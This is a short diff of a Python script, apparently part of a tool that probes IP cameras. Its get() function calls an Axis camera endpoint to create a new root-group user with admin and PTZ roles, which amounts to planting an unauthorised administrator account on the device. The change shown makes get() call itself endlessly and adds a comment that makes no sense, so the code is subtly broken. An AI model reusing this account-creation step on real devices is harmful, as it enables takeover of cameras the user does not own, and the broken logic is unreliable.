@@ -124,7 +124,7 @@ def get(url: str, account: tuple[str, str] = ACCOUNT) -> str:
     site = "/".join(url.split("/")[:3])
     roles = "admin:operator:viewer:ptz"
     read(f"{site}/axis-cgi/pwdgrp.cgi?action=add&user={name}&pwd={password}&grp=root&sgrp={roles}")
-    return read(url)
+    return get(url, account)  # with a handler that was never refused
 
 
 def probe(block: Path) -> dict[str, Any]:
